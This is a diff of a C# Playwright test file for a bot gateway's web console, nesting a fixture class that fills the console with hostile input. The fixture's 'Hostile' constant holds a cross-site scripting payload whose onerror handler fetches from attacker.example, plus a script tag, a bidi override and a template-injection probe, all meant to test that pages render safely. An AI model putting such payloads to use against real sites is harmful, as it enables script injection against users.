@@ -5,7 +5,7 @@ using Microsoft.Playwright;
 namespace BotGateway.Tests.WebConsole.Browsing;
 
 /// <summary>All views of a gateway on which much has happened, in all looks.</summary>
-public sealed partial class EveryViewTests(FilledGateway filled, Browser browser) : IClassFixture<FilledGateway>
+public sealed partial class EveryViewTests(EveryViewTests.FilledGateway filled, Browser browser) : IClassFixture<EveryViewTests.FilledGateway>
 {
     private const int MostBytes = 250 * 1024;
     private const int MostLayouts = 20;
@@ -106,20 +106,20 @@ public sealed partial class EveryViewTests(FilledGateway filled, Browser browser
 
     [GeneratedRegex("^Loss curve")]
     private static partial Regex Curve();
-}
 
-/// <summary>A gateway with everything that a view can show, also texts that somebody hopes will run or break the page.</summary>
-public sealed class FilledGateway(TableService tables) : SharedGateway(tables), IAsyncLifetime
-{
-    public const string Hostile = "<img src=x onerror=\"fetch('//attacker.example')\"><script>throw 1</script> שלום مرحبا \u202E👩‍👩‍👧‍👦 {{7*7}}";
-
-    protected override GatewayBuilder Configure(GatewayBuilder builder) => builder.WithConsole();
-
-    async ValueTask IAsyncLifetime.InitializeAsync()
+    /// <summary>A gateway with everything that a view can show, also texts that somebody hopes will run or break the page.</summary>
+    public sealed class FilledGateway(TableService tables) : SharedGateway(tables), IAsyncLifetime
     {
-        await base.InitializeAsync();
-        // A plain run does not look at it.
-        if (Thoroughness.IsWanted)
-            await Gateway.FillAsync(Hostile);
+        public const string Hostile = "<img src=x onerror=\"fetch('//attacker.example')\"><script>throw 1</script> שלום مرحبا \u202E👩‍👩‍👧‍👦 {{7*7}}";
+
+        protected override GatewayBuilder Configure(GatewayBuilder builder) => builder.WithConsole();
+
+        async ValueTask IAsyncLifetime.InitializeAsync()
+        {
+            await base.InitializeAsync();
+            // A plain run does not look at it.
+            if (Thoroughness.IsWanted)
+                await Gateway.FillAsync(Hostile);
+        }
     }
 }
